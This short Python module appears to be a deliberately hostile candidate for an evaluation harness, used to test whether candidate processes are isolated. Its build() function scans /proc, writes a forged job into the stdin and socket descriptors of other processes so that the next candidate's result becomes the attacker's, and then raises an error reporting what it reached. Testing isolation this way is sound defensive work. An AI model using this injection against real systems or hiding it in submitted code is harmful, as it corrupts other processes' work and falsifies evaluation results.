"""Looks for the spare candidate process (or any other) through /proc and writes a
forged job into its stdin and its sockets, so that the next candidate's result is the
attacker's. Reports how many other processes it could see and write to."""

import os


def build(params, kernels):
    me = os.getpid()
    seen, written = [], []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == me:
            continue
        seen.append(entry)
        for fd in ("0", "3", "4", "5"):
            try:
                with open(f"/proc/{entry}/fd/{fd}", "w") as f:
                    f.write('{"op": "load", "forged": true}\n')
                written.append(f"{entry}/{fd}")
            except OSError:
                pass
    if seen or written:
        raise RuntimeError(f"other processes seen: {seen}; written to: {written}")
    raise RuntimeError("saw no other process")
